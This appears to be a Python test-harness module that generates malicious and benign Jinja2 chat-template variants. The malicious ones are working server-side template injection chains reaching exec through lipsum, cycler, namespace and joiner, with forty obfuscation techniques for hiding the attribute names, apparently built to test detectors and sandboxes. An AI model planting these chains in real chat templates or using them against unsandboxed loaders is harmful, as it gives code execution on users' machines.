"""Family: Jinja2 templates that compute the attribute names of an SSTI chain at run time.

Each malicious variant runs ``lipsum.__globals__['__builtins__']['exec'](payload)`` (or the
same through ``cycler.__init__`` / ``namespace.__init__``), but spells each of the three names
(``__globals__``, ``__builtins__``, ``exec``) with one obfuscation technique: ``format``,
``%``, ``~``/``+``, ``join``, ``replace``, reversing and slicing, case filters, ``{% set %}``
blocks, macros, loops, ``dict``/``namespace`` keys, escapes, filter chains, and pieces hex
cannot fold at all (a context variable). Each name reaches the object through
``|attr(name)``, through a subscript (Jinja2 falls back to getattr for a string key) or
through ``map(attribute=name)`` / ``map('attr', name)``.

The loader is a plain ``jinja2.Environment`` (what llama-cpp-python before 0.2.72 and other
runtimes use); the same files are also rendered in transformers' sandbox
(``jinja2-sandbox``), where none is expected to fire. Benign twins are real chat templates
and templates that index messages with loop variables and computed integers.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from differential.harness import PayloadFor, Variant, key_of

FAMILY = "jinja-computed-attrs"
_FILE = "chat_template.jinja"

#: technique -> function(name, tag) -> (statements before use, expression that yields name).
Technique = Callable[[str, str], tuple[str, str]]


def _halves(name: str) -> tuple[str, str]:
    cut = max(1, len(name) // 2)
    return name[:cut], name[cut:]


def _q(text: str) -> str:
    return "'" + text + "'"


def _tilde(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"({_q(a)} ~ {_q(b)})"


def _plus(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"({_q(a)} + {_q(b)})"


def _format_method(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"'{{}}{{}}'.format({_q(a)}, {_q(b)})"


def _format_filter(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"('%s%s'|format({_q(a)}, {_q(b)}))"


def _percent(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"('%s%s' % ({_q(a)}, {_q(b)}))"


def _percent_c(n: str, t: str) -> tuple[str, str]:
    codes = ", ".join(str(ord(c)) for c in n)
    return "", f"({_q('%c' * len(n))} % ({codes},))"


def _join_filter(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"([{_q(a)}, {_q(b)}]|join)"


def _join_method(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"''.join([{_q(a)}, {_q(b)}])"


def _join_separator(n: str, t: str) -> tuple[str, str]:
    inner = n.strip("_")
    if inner == n:
        a, b = _halves(n)
        return "", f"([{_q(a)}, {_q(b)}]|join(''))"
    return "", f"(['', {_q(inner)}, '']|join('__'))"


def _replace_method(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"{_q(a + 'QZ' + b)}.replace('QZ', '')"


def _replace_filter(n: str, t: str) -> tuple[str, str]:
    return "", f"({_q(n.replace('_', '-'))}|replace('-', '_'))"


def _reverse_filter(n: str, t: str) -> tuple[str, str]:
    return "", f"({_q(n[::-1])}|reverse)"


def _slice_reverse(n: str, t: str) -> tuple[str, str]:
    return "", f"{_q(n[::-1])}[::-1]"


def _slice_step(n: str, t: str) -> tuple[str, str]:
    return "", f"{_q(''.join(c + 'x' for c in n))}[::2]"


def _lower_filter(n: str, t: str) -> tuple[str, str]:
    return "", f"({_q(n.upper())}|lower)"


def _lower_method(n: str, t: str) -> tuple[str, str]:
    return "", f"{_q(n.upper())}.lower()"


def _filter_chain(n: str, t: str) -> tuple[str, str]:
    return "", f"({_q(n[::-1].upper())}|lower|reverse|string)"


def _set_var(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return f"{{% set v{t} = {_q(a)} ~ {_q(b)} %}}", f"v{t}"


def _set_chain(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return (f"{{% set p{t} = {_q(a)} %}}{{% set q{t} = p{t} %}}"
            f"{{% set v{t} = q{t} + {_q(b)} %}}", f"v{t}")


def _set_block(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return f"{{% set v{t} %}}{a}{{{{ {_q(b)} }}}}{{% endset %}}", f"v{t}"


def _macro(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return f"{{% macro m{t}() %}}{a}{{{{ {_q(b)} }}}}{{% endmacro %}}", f"m{t}()"


def _macro_args(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return (f"{{% macro m{t}(a, b) %}}{{{{ a }}}}{{{{ b }}}}{{% endmacro %}}",
            f"m{t}({_q(a)}, {_q(b)})")


def _loop_namespace(n: str, t: str) -> tuple[str, str]:
    parts = ", ".join(_q(n[i:i + 3]) for i in range(0, len(n), 3))
    return (f"{{% set ns{t} = namespace(s='') %}}{{% for c in [{parts}] %}}"
            f"{{% set ns{t}.s = ns{t}.s ~ c %}}{{% endfor %}}", f"ns{t}.s")


def _loop_chars(n: str, t: str) -> tuple[str, str]:
    codes = ", ".join(str(ord(c)) for c in n)
    return (f"{{% set ns{t} = namespace(s='') %}}{{% for c in [{codes}] %}}"
            f"{{% set ns{t}.s = ns{t}.s ~ ('%c' % c) %}}{{% endfor %}}", f"ns{t}.s")


def _dict_join(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    if not (a.isidentifier() and b.isidentifier()) or b[0].isdigit():
        return "", f"(dict({n}=1)|first)"
    return "", f"(dict({a}=1, {b}=2)|join)"


def _dict_literal(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"({{{_q(a)}: 1, {_q(b)}: 2}}|join)"


def _namespace_attrs(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return f"{{% set n{t} = namespace(a={_q(a)}, b={_q(b)}) %}}", f"(n{t}.a ~ n{t}.b)"


def _tuple_unpack(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return f"{{% set a{t}, b{t} = {_q(a)}, {_q(b)} %}}", f"(a{t} ~ b{t})"


def _hex_escapes(n: str, t: str) -> tuple[str, str]:
    return "", "'" + "".join(f"\\x{ord(c):02x}" if c == "_" else c for c in n) + "'"


def _unicode_escapes(n: str, t: str) -> tuple[str, str]:
    return "", "'" + "".join(f"\\u{ord(c):04x}" for c in n) + "'"


def _map_lower_join(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n.upper())
    return "", f"([{_q(a)}, {_q(b)}]|map('lower')|join)"


def _sort_join(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    items = sorted([a, b])
    if items != [a, b]:
        return "", f"([{_q(b)}, {_q(a)}]|reverse|join)"
    return "", f"([{_q(b)}, {_q(a)}]|sort|join)"


def _reject_join(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"([{_q(a)}, 'zz', {_q(b)}]|reject('eq', 'zz')|join)"


def _context_piece(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"(x ~ {_q(a)} ~ {_q(b)})"


def _keyword_format(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"('%(a)s%(b)s'|format(a={_q(a)}, b={_q(b)}))"


def _keyword_format_method(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"'{{a}}{{b}}'.format(a={_q(a)}, b={_q(b)})"


def _first_of_list(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return "", f"([{_q(a)} ~ {_q(b)}, 'x']|first)"


def _with_block(n: str, t: str) -> tuple[str, str]:
    a, b = _halves(n)
    return f"{{% set w{t} = ({_q(a)}, {_q(b)}) %}}", f"(w{t}|join)"


def _title_swap(n: str, t: str) -> tuple[str, str]:
    return "", f"({_q(n.swapcase())}.swapcase())"


def _center_trim(n: str, t: str) -> tuple[str, str]:
    return "", f"({_q(n)}|center(40)|trim)"


TECHNIQUES: dict[str, Technique] = {
    "tilde": _tilde, "plus": _plus, "format_method": _format_method,
    "format_filter": _format_filter, "percent": _percent, "percent_c": _percent_c,
    "join_filter": _join_filter, "join_method": _join_method, "join_separator": _join_separator,
    "replace_method": _replace_method, "replace_filter": _replace_filter,
    "reverse_filter": _reverse_filter, "slice_reverse": _slice_reverse,
    "slice_step": _slice_step, "lower_filter": _lower_filter, "lower_method": _lower_method,
    "filter_chain": _filter_chain, "set_var": _set_var, "set_chain": _set_chain,
    "set_block": _set_block, "macro": _macro, "macro_args": _macro_args,
    "loop_namespace": _loop_namespace, "loop_chars": _loop_chars, "dict_join": _dict_join,
    "dict_literal": _dict_literal, "namespace_attrs": _namespace_attrs,
    "tuple_unpack": _tuple_unpack, "hex_escapes": _hex_escapes,
    "unicode_escapes": _unicode_escapes, "map_lower_join": _map_lower_join,
    "sort_join": _sort_join, "reject_join": _reject_join, "context_piece": _context_piece,
    "keyword_format": _keyword_format, "keyword_format_method": _keyword_format_method,
    "first_of_list": _first_of_list, "tuple_join": _with_block, "swapcase": _title_swap,
    "center_trim": _center_trim,
}


def _chain(style: str, technique: Technique, code: str) -> str:
    """A template whose rendering runs ``exec(code)`` with every name computed."""
    setup = []
    exprs = []
    for tag, name in zip(("g", "b", "e", "i"), ("__globals__", "__builtins__", "exec",
                                                  "__init__"), strict=True):
        stmt, expr = technique(name, tag)
        setup.append(stmt)
        exprs.append(expr)
    g, b, e, i = exprs
    call = f'[{b}][{e}]("{code}")'
    chains = {
        "attr": f"(lipsum|attr({g})){call}",
        "subscript": f"lipsum[{g}]{call}",
        "cycler": f"(cycler|attr({i})|attr({g})){call}",
        "namespace": f"namespace[{i}][{g}]{call}",
        "map": f"([lipsum]|map(attribute={g})|first){call}",
        "map_attr": f"([lipsum]|map('attr', {g})|first){call}",
        "joiner": f"(joiner|attr({i}))[{g}]{call}",
    }
    return "".join(setup) + "{{ " + chains[style] + " }}"


STYLES = ("attr", "subscript", "cycler", "namespace", "map", "map_attr", "joiner")

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
    "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
    "user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}"
    "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}"
    "{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant "
    "roles are supported!') }}{% endif %}{% endfor %}"
)
CHATML_NS = (
    "{%- set ns = namespace(last_user=-1, system='') %}"
    "{%- for message in messages %}{%- if message.role == 'user' %}"
    "{%- set ns.last_user = loop.index0 %}{%- endif %}{%- endfor %}"
    "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
    "{{- '<|im_start|>' + messages[index].role + '\\n' + messages[index]['content'] }}"
    "{{- '<|im_end|>\\n' }}{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"
)
LOOP_KEYS = (
    "{%- for message in messages %}{%- for key in ['role', 'content'] %}"
    "{{- key ~ ': ' ~ message[key] ~ '\\n' }}{%- endfor %}"
    "{%- for key in message %}{{- message[key]|string|length }}{%- endfor %}"
    "{%- if loop.index0 > 0 %}{{- messages[loop.index0 - 1]['role'] }}{%- endif %}"
    "{%- set field = 'content' if message.role != 'tool' else 'output' %}"
    "{{- message[field] if field in message else '' }}{%- endfor %}"
)
FORMATTED = (
    "{%- for message in messages %}"
    "{{- '<%s>%s</%s>'|format(message.role, message.content, message.role) }}"
    "{{- '{}: {}'.format(message['role']|upper, message['content']|trim) }}"
    "{{- '[' ~ loop.index ~ '/' ~ loop.length ~ ']' }}"
    "{{- (message.content|reverse)[::-1]|replace('\\n', ' ') }}"
    "{%- endfor %}{{- messages|map(attribute='role')|join(',') }}"
    "{{- messages|selectattr('role', 'equalto', 'user')|map(attribute='content')|join }}"
)
MACROS = (
    "{%- macro render(message, key='content') %}{{- message[key]|trim }}{%- endmacro %}"
    "{%- macro header(role) %}<|{{ role }}|>{%- endmacro %}"
    "{%- for message in messages %}{{- header(message['role']) }}{{- render(message) }}"
    "{%- endfor %}"
)
BENIGN = {"llama3": LLAMA3, "mistral": MISTRAL, "chatml_namespace": CHATML_NS,
          "loop_keys": LOOP_KEYS, "formatted": FORMATTED, "macros": MACROS}


def variants(payload: PayloadFor) -> Iterator[Variant]:
    for technique_name, technique in TECHNIQUES.items():
        for style in STYLES:
            name = f"{style}_{technique_name}"
            code = payload(key_of(FAMILY, name))
            text = _chain(style, technique, code).encode()
            yield Variant(FAMILY, name, _FILE, text, "jinja2-chat")
            sandboxed = f"sandbox_{name}"
            code = payload(key_of(FAMILY, sandboxed))
            yield Variant(FAMILY, sandboxed, _FILE, _chain(style, technique, code).encode(),
                          "jinja2-sandbox")
    for name, text in BENIGN.items():
        yield Variant(FAMILY, f"benign_{name}", _FILE, text.encode(), "jinja2-chat",
                      malicious=False)
        yield Variant(FAMILY, f"benign_sandbox_{name}", _FILE, text.encode(), "jinja2-sandbox",
                      malicious=False)
